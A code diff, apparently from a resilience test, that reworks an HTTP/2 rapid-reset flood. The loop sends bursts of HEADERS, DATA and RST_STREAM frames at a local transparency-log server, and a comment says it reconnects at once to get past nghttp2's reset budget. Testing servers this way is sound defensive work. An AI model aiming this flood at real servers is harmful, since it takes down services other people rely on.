@@ -227,27 +227,19 @@ try:
     resets = [0]
 
     def resetter():
+        # nghttp2's reset budget (about 300) ends each connection with
+        # GOAWAY; the attacker reconnects at once and starts over.
         post = hpack.Encoder().encode([(":method", "POST"), (":path", "/entries"), (":scheme", "http"),
                                        (":authority", "localhost"), ("content-type", "application/cose")])
+        blob = PREFACE + b"".join(frame(1, 0x4, sid, post) + frame(0, 0x1, sid, attack_stmt) +
+                                  frame(3, 0, sid, struct.pack(">I", 8)) for sid in range(1, 801, 2))
         while not stop.is_set():
             try:
                 s = socket.create_connection(("127.0.0.1", srv.port), source_address=(ATTACKER, 0))
-                s.settimeout(0.2)
-                s.sendall(PREFACE)
-                sid = 1
-                while not stop.is_set():
-                    burst = bytearray()
-                    for _ in range(50):
-                        burst += frame(1, 0x4, sid, post) + frame(0, 0x1, sid, attack_stmt) + \
-                            frame(3, 0, sid, struct.pack(">I", 8))
-                        sid += 2
-                    s.sendall(bytes(burst))
-                    resets[0] += 50
-                    try:
-                        if not s.recv(65536):
-                            break
-                    except (socket.timeout, TimeoutError):
-                        pass
+                s.settimeout(1)
+                s.sendall(blob)
+                resets[0] += 400
+                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                 s.close()
             except OSError:
                 pass
